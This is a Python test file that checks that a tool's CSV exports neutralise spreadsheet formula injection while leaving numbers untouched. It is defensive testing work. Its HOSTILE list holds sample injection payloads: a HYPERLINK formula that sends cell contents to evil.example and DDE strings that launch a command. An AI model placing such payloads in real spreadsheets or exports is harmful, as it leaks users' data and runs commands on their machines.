"""CSV exports are inert in spreadsheets: text that would run as a formula gets a leading quote, numbers do not."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pinchpoint.cli.output import OutputFormat, emit
from pinchpoint.results import ResultTable, write_table
from pinchpoint.results.table import spreadsheet_safe, to_csv_text

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Banco Nacional de Cuba")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
           "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1"]


def real_names(eto_path: Path) -> list[str]:
    with (eto_path / "inputs.csv").open(encoding="utf-8-sig") as fh:
        return [r["input_name"] for r in csv.DictReader(fh)][:4]


def hostile_table(names: list[str]) -> ResultTable:
    """Real ETO input names with hostile ones mixed in, plus negative numbers that must stay numbers."""
    rows = [{"name": n, "aliases": [n], "growth": -12.5, "count": -3, "code": "-7"} for n in HOSTILE + names]
    return ResultTable.from_records("hostile", rows)


def check(text: str, names: list[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + len(names)
    for row, name in zip(rows, HOSTILE, strict=False):
        assert row["name"] == "'" + name and row["aliases"] == "'" + name
    for row in rows:
        assert row["growth"] == "-12.5" and row["count"] == "-3" and row["code"] == "-7"  # numbers untouched
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [r["name"] for r in rows[len(HOSTILE):]] == names  # ordinary names unchanged


def test_spreadsheet_safe_rules() -> None:
    assert [spreadsheet_safe(v) for v in ("=1", "+1a", "@x", "\tx", "\rx", "-x")] == \
        ["'=1", "'+1a", "'@x", "'\tx", "'\rx", "'-x"]
    assert [spreadsheet_safe(v) for v in (-1.5, -3, "-0.5", "+1e3", "Tokyo Electron", "", None)] == \
        [-1.5, -3, "-0.5", "+1e3", "Tokyo Electron", "", None]


def test_table_csv_file_and_stdout_are_neutralised(eto_path: Path, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    names = real_names(eto_path)
    table = hostile_table(names)
    check(write_table(table, tmp_path / "t.csv").read_bytes().decode("utf-8"), names)
    check(to_csv_text(table), names)
    emit(table, OutputFormat.CSV, None)
    check(capsys.readouterr().out, names)
    emit(table, None, tmp_path / "e.csv")
    check((tmp_path / "e.csv").read_bytes().decode("utf-8"), names)
    # JSON is data, not a spreadsheet: it keeps the names exactly
    doc = json.loads(write_table(table, tmp_path / "t.json").read_text(encoding="utf-8"))
    assert [r["name"] for r in doc["rows"][:len(HOSTILE)]] == HOSTILE


def test_tiny_and_huge_floats_survive_csv(tmp_path: Path) -> None:
    values = [1.5e-11, 0.1 + 0.2, 123456789012.75, -2.5e-15]
    table = ResultTable.from_records("f", [{"v": v} for v in values])
    rows = list(csv.DictReader(io.StringIO(to_csv_text(table))))
    assert [float(r["v"]) for r in rows] == values  # rounding to 10 decimals used to write 1.5e-11 as 0.0
